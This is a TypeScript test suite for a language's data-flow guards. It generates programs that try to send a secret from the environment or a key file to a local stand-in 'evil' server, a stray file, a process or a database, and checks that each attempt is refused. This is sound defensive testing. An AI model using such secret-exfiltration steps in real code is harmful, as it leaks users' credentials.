// A guard's refusal is a value of the failure type the call declares
// (spec/runtime.md, "The check"): `HttpError.Guarded(origin, sink)` and the same
// case of every failure type a call through the gateway can fail with. So a
// match the checker found exhaustive over that type has an arm for it, and a
// refused call can never end the run with "no arm of the match fits the value".
// The attack, a property over generated programs and a program-made refusal;
// real `renyi run` and `renyi check`, real servers on 127.0.0.1.

import { test, after, before } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { failureTypes } from "../compiler/check/library-reference.js";
import { PRELUDE_VARIANTS } from "../rtlib/prelude.js";
import { capabilityInfo, knownCapabilities } from "../vocabulary/capabilities.js";
import { renyiIn } from "./support.js";

const SECRET = "hunter2-Qx7";

const work = mkdtempSync(join(tmpdir(), "renyi-guard-failures-"));
after(() => rmSync(work, { recursive: true, force: true }));

/** A server on 127.0.0.1 that answers 200 and remembers every request's URL and body. */
async function listen(): Promise<{ server: Server; port: number; heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (d: Buffer) => (body += d.toString()));
    req.on("end", () => {
      heard.push(`${req.url ?? ""} ${body}`);
      res.end("ok");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, port: (server.address() as { port: number }).port, heard };
}

let sink: Awaited<ReturnType<typeof listen>>;
let evil: Awaited<ReturnType<typeof listen>>;

before(async () => {
  sink = await listen();
  evil = await listen();
  for (const dir of ["secrets", "out", "elsewhere"]) mkdirSync(join(work, dir));
  writeFileSync(join(work, "secrets", "key.txt"), SECRET);
});
after(() => {
  sink.server.close();
  evil.server.close();
});

function renyi(args: readonly string[], env: Record<string, string> = {}): ReturnType<typeof renyiIn> {
  return renyiIn(work, args, env, join(work, "cache"));
}

/** The cases of a failure type as the checker declares it: each case's name and number of fields. */
function casesOf(type: string): { name: string; fields: number }[] {
  const declared = failureTypes().find((f) => f.name === type);
  assert.ok(declared !== undefined, `${type} is no failure type of the prelude`);
  return declared.cases.map((c) => ({ name: c.replace(/\(.*$/, ""), fields: (c.match(/:/g) ?? []).length }));
}

test("every failure type of a capability has the Guarded case, in the checker's declarations and at run time", () => {
  const types = new Set(knownCapabilities().flatMap((name) => capabilityInfo(name.split("."))?.errorType ?? []));
  assert.deepEqual([...types].sort(), [
    "DbError",
    "FileError",
    "ForeignError",
    "HttpError",
    "ProcessError",
    "StartError",
  ]);
  for (const type of types) {
    assert.ok(
      casesOf(type).some((c) => c.name === "Guarded" && c.fields === 2),
      `${type} has no Guarded(origin, sink) for the checker`,
    );
    const runtime = PRELUDE_VARIANTS[type]!.cases.find((c) => c.name === "Guarded");
    assert.deepEqual(
      runtime?.fields.map((f) => f.name),
      ["origin", "sink"],
      `${type} has no Guarded(origin, sink) at run time`,
    );
  }
});

/** The attack: the secret sent to another host, passed on into a function that fails with HttpError, matched there. */
function attack(withGuardedArm: boolean): string {
  const guardedArm = withGuardedArm
    ? `    when HttpError.Guarded(origin, sink) then
      let same be failure is HttpError.Guarded(origin: "environment(\\"SECRET\\")", sink: "network.http")
      let written be failure.to_text().starts_with("HttpError.Guarded(origin: ")
      let encoded be json.to_text(failure.to_json()).starts_with("\\{\\"Guarded\\":\\{\\"origin\\":")
      return "guarded: {same} {written} {encoded} {origin is "environment(\\"SECRET\\")"} {sink is "network.http"}"
`
    : "";
  return `function send(secret: Text) returns Int or fails with HttpError
  needs network.http("127.0.0.1")
  let response be http.post("http://127.0.0.1:${evil.port}/collect", secret) otherwise fail
  return response.status
end

function describe(failure: HttpError) returns Text
  match failure
    when HttpError.HostNotAllowed(host) then return "host not allowed"
    when HttpError.PermissionDenied(host) then return "permission denied"
    when HttpError.OverBudget(host) then return "over budget"
    when HttpError.InvalidUrl(url) then return "invalid url"
    when HttpError.Timeout(url) then return "timed out"
    when HttpError.Unreachable(url, reason) then return "unreachable"
    when HttpError.TooLarge(url, limit) then return "too large"
${guardedArm}  end
end

public function main()
  purpose: Send the key to a host its guard does not allow, and say how that went.
  needs console, network.http("127.0.0.1"), environment("SECRET") only to network.http("127.0.0.1:${sink.port}") or console
  let secret be environment.get("SECRET").or_else("")
  let status be send(secret) otherwise
    when _ then
      console.print(describe(error))
      return
  end
  console.print("sent {status}")
end
`;
}

test("the attack: a refusal passed on as an HttpError needs its arm in an exhaustive match, and runs to it", async () => {
  writeFileSync(join(work, "attack.ry"), attack(false));
  const checked = await renyi(["check", "attack.ry"]);
  assert.equal(checked.status, 3, checked.stdout + checked.stderr);
  assert.match(
    checked.stdout + checked.stderr,
    /error\[E-MATCH-MISSING\]: This match does not cover every value: `HttpError\.Guarded\(_, _\)` is not handled/,
  );
  assert.match(checked.stdout + checked.stderr, /attack\.ry:8:3/);

  writeFileSync(join(work, "attack.ry"), attack(true));
  const before = evil.heard.length;
  const ran = await renyi(["run", "attack.ry"], { SECRET });
  assert.equal(ran.status, 0, ran.stderr);
  // The arm ran, the refusal is the case it says (its fields, is, to_text and to_json), and nothing was sent.
  assert.equal(ran.stdout, "guarded: true true true true true\n");
  assert.equal(evil.heard.length, before);
  assert.ok(!(ran.stdout + ran.stderr).includes(SECRET));
});

test("a refusal a program makes itself is only a value: the gateway still refuses by origins", async () => {
  writeFileSync(
    join(work, "forged.ry"),
    `function pretend() or fails with HttpError
  fail with HttpError.Guarded(origin: "console", sink: "network.http")
end

public function main()
  purpose: Make a refusal of its own, then send the key away as if the guard had been dealt with.
  needs console, network.http("127.0.0.1"), environment("SECRET") only to network.http("127.0.0.1:${sink.port}") or console
  let secret be environment.get("SECRET").or_else("")
  pretend() otherwise
    when HttpError.Guarded(origin, sink) then console.print("made {origin} {sink}")
    when _ then console.print("other")
  end
  let response be http.post("http://127.0.0.1:${evil.port}/", secret) otherwise
    when HttpError.Guarded(_, _) then return console.print("refused all the same")
    when _ then return console.print("other")
  end
  console.print("sent {response.status}")
end
`,
  );
  const before = evil.heard.length;
  const ran = await renyi(["run", "forged.ry"], { SECRET });
  assert.equal(ran.status, 0, ran.stderr);
  assert.equal(ran.stdout, "made console network.http\nrefused all the same\n");
  assert.equal(evil.heard.length, before);
});

// ---- the property: generated programs with guards, sinks and exhaustive matches ----

/** Where the secret comes from. */
const SOURCES = {
  environment: {
    need: 'environment("SECRET")',
    origin: 'environment("SECRET")',
    read: 'environment.get("SECRET").or_else("")',
  },
  file: {
    need: 'filesystem.read("secrets")',
    origin: 'filesystem.read("secrets")',
    read: 'filesystem.read_text("secrets/key.txt") otherwise crash with "no key"',
  },
} as const;

/** What the program makes of the secret before sending it. */
const VALUES = [
  "secret",
  "secret.upper()",
  '"{secret}!"',
  "secret.length().to_text()",
  'text.join([secret, "x"], ",")',
];

interface Sink {
  /** The failure type of the call. */
  readonly type: string;
  /** The capabilities the call needs. */
  readonly needs: string;
  /** The guard's sink that allows the call; none: no guard ever allows it. */
  readonly allowedBy?: () => string;
  /** The sink a refusal names. */
  readonly refused: string;
  /** Lines before the call (each handles its own failure). */
  readonly setup: readonly string[];
  /** The call, of `value`; with a result when `returns`. */
  readonly call: () => string;
  readonly returns: boolean;
}

const handler = 'function answer(request: Request) returns Response\n  return server.respond(200, "x")\nend\n';

const SINKS: Readonly<Record<string, Sink>> = {
  httpSink: {
    type: "HttpError",
    needs: 'network.http("127.0.0.1")',
    allowedBy: () => `network.http("127.0.0.1:${sink.port}")`,
    refused: "network.http",
    setup: [],
    call: () => `http.get("http://127.0.0.1:${sink.port}/?k={value}")`,
    returns: true,
  },
  httpEvil: {
    type: "HttpError",
    needs: 'network.http("127.0.0.1")',
    refused: "network.http",
    setup: [],
    call: () => `http.post("http://127.0.0.1:${evil.port}/", value)`,
    returns: true,
  },
  writeOut: {
    type: "FileError",
    needs: 'filesystem.write("out")',
    allowedBy: () => 'filesystem.write("out")',
    refused: "filesystem.write",
    setup: [],
    call: () => 'filesystem.write_text("out/kept.txt", value)',
    returns: false,
  },
  writeElsewhere: {
    type: "FileError",
    needs: 'filesystem.write("elsewhere")',
    refused: "filesystem.write",
    setup: [],
    call: () => 'filesystem.write_text("elsewhere/leak.txt", value)',
    returns: false,
  },
  process: {
    type: "ProcessError",
    needs: 'process("true")',
    allowedBy: () => 'process("true")',
    refused: "process",
    setup: [],
    call: () => 'process.run("true", [value])',
    returns: true,
  },
  database: {
    type: "DbError",
    needs: 'filesystem.database("out")',
    allowedBy: () => 'filesystem.database("out")',
    refused: "filesystem.database",
    setup: [
      'let db be database.open("out/kept.sqlite") otherwise crash with "no database"',
      'let made be database.execute(db, "CREATE TABLE IF NOT EXISTS t (v TEXT)") otherwise crash with "no table"',
    ],
    call: () => 'database.execute(db, "INSERT INTO t (v) VALUES (?)", [value.to_json()])',
    returns: true,
  },
  serve: {
    type: "StartError",
    needs: "network.socket",
    refused: "network.socket",
    setup: [],
    call: () => "server.serve(value.length() + 40000, answer, Some(1))",
    returns: false,
  },
  foreign: {
    type: "ForeignError",
    needs: "foreign",
    refused: "foreign",
    setup: [],
    call: () => 'foreign.call("mods/{value}.mjs", "f")',
    returns: true,
  },
};

/**
 * Where the match over the failure is: on the call itself, in a function it was passed on to, or wrapped in the
 * program's own variant.
 */
type Shape = "inline" | "passed" | "described" | "wrapped";

interface Generated {
  source: keyof typeof SOURCES;
  value: string;
  sink: string;
  /** The guard's sinks (at least one). */
  sinks: string[];
  shape: Shape;
  /** The order of the arms, as indices into the failure type's cases. */
  order: number[];
  /** For each case, whether its fields are bound to names or to `_`. */
  named: boolean[];
}

/** One arm per case, in the order given: the Guarded arm says whether the refusal names the guard and the sink. */
function arms(
  g: Generated,
  pattern: (inner: string) => string,
  leave: (line: string) => string,
  indent: string,
): string {
  const s = SINKS[g.sink]!;
  const cases = casesOf(s.type);
  return g.order
    .map((i) => {
      const c = cases[i]!;
      const names =
        c.name === "Guarded"
          ? ["origin", "sink"]
          : Array.from({ length: c.fields }, (_, f) => (g.named[i] ? `f${f}` : "_"));
      const inner = `${s.type}.${c.name}${c.fields === 0 ? "" : `(${names.join(", ")})`}`;
      const said =
        c.name === "Guarded"
          ? `arm Guarded {origin is ${JSON.stringify(SOURCES[g.source].origin)}} {sink is "${s.refused}"}`
          : `arm ${c.name}`;
      return `${indent}when ${pattern(inner)} then ${leave(`console.print("${said}")`)}\n`;
    })
    .join("");
}

function program(g: Generated): string {
  const s = SINKS[g.sink]!;
  const source = SOURCES[g.source];
  // The console is a sink too, so that the arm reached may say so: whether a call was refused is a decision on the
  // secret (spec/runtime.md, "Decisions on guarded data"), and only a guard that lets it to the console lets it be
  // said.
  const guarded = `${source.need} only to ${[...g.sinks, "console"].join(" or ")}`;
  const needs = [...new Set(["console", s.needs, ...g.sinks, guarded])].join(", ");
  // The call made of the secret, its setup before it, handled as `handling` says.
  const send = (handling: string): string =>
    [...s.setup, `let value be ${g.value}`].map((l) => `  ${l}\n`).join("") +
    (s.returns ? `  let reply be ${s.call()} otherwise${handling}` : `  ${s.call()} otherwise${handling}`);
  const attempt = `function attempt(secret: Text) or fails with ${s.type}
  needs ${s.needs}
${send(" fail\n")}end
`;
  const main = (body: string): string => `public function main()
  purpose: Send what was read somewhere, and say how that went.
  needs ${needs}
  let secret be ${source.read}
${body}  console.print("ok")
end
`;
  const head = g.sink === "serve" ? `${handler}\n` : "";
  const leaving = (line: string): string => `return ${line}`;
  switch (g.shape) {
    case "inline":
      return head + main(`${send("\n")}${arms(g, (p) => p, leaving, "    ")}  end\n`);
    case "passed":
      return `${head}${attempt}\n${main(`  attempt(secret) otherwise\n${arms(g, (p) => p, leaving, "    ")}  end\n`)}`;
    case "described":
      return `${head}${attempt}
function describe(failure: ${s.type})
  needs console
  match failure
${arms(
  g,
  (p) => p,
  (l) => l,
  "    ",
)}  end
end

${main("  attempt(secret) otherwise return describe(error)\n")}`;
    case "wrapped":
      return `${head}type Trouble is variant
  Wrapped(error: ${s.type})
end

${attempt}
function relay(secret: Text) or fails with Trouble
  needs ${s.needs}
  attempt(secret) otherwise fail
end

${main(`  relay(secret) otherwise\n${arms(g, (p) => `Trouble.Wrapped(${p})`, leaving, "    ")}  end\n`)}`;
  }
}

/** Whether the guard lets the call through. */
function allowed(g: Generated): boolean {
  const by = SINKS[g.sink]!.allowedBy;
  return by !== undefined && g.sinks.includes(by());
}

const GUARD_SINKS = [
  () => `network.http("127.0.0.1:${sink.port}")`,
  () => 'filesystem.write("out")',
  () => 'process("true")',
  () => 'filesystem.database("out")',
];

const generated: fc.Arbitrary<Generated> = fc
  .record({
    source: fc.constantFrom<keyof typeof SOURCES>("environment", "file"),
    value: fc.constantFrom(...VALUES),
    sink: fc.constantFrom(...Object.keys(SINKS)),
    sinks: fc.subarray([0, 1, 2, 3], { minLength: 1 }),
    shape: fc.constantFrom<Shape>("inline", "passed", "described", "wrapped"),
    shuffle: fc.array(fc.nat(), { minLength: 8, maxLength: 8 }),
    named: fc.array(fc.boolean(), { minLength: 8, maxLength: 8 }),
  })
  .map(({ source, value, sink, sinks, shape, shuffle, named }) => {
    const count = casesOf(SINKS[sink]!.type).length;
    // The arms in an order the numbers give (a stable sort of the cases by them).
    const order = Array.from({ length: count }, (_, i) => i).sort((a, b) => shuffle[a]! - shuffle[b]! || a - b);
    return { source, value, sink, sinks: sinks.map((i) => GUARD_SINKS[i]!()), shape, order, named };
  });

test("generated programs: a refused call reaches its Guarded arm in every exhaustive match, never the no-arm crash", async () => {
  let cases = 0;
  let refused = 0;
  await fc.assert(
    fc.asyncProperty(generated, async (g) => {
      cases++;
      const text = program(g);
      const file = `generated${cases}.ry`;
      writeFileSync(join(work, file), text);
      const heard = evil.heard.length;
      const ran = await renyi(["run", file], { SECRET });
      const shown = `${text}\n--- stdout\n${ran.stdout}--- stderr\n${ran.stderr}`;
      assert.doesNotMatch(ran.stderr, /no arm of the match fits|E-RT-CRASH/, shown);
      if (allowed(g)) {
        assert.equal(ran.status, 0, shown);
        assert.equal(ran.stdout, "ok\n", shown);
      } else {
        assert.equal(ran.status, 0, shown);
        refused++;
        assert.equal(ran.stdout, "arm Guarded true true\n", shown);
      }
      assert.equal(evil.heard.length, heard, shown);
      assert.ok(!existsSync(join(work, "elsewhere", "leak.txt")), shown);
      assert.ok(!(ran.stdout + ran.stderr).includes(SECRET), shown);
    }),
    {
      numRuns: Number(process.env["RENYI_FUZZ_CASES"] ?? 20),
      seed: Number(process.env["RENYI_PROPERTY_SEED"] ?? Date.now() % 2 ** 31),
    },
  );
  console.log(`guard failures: ${cases} generated programs, ${refused} refused`);
  assert.ok(refused > 0 && refused < cases, "both refused and allowed calls were generated");
});
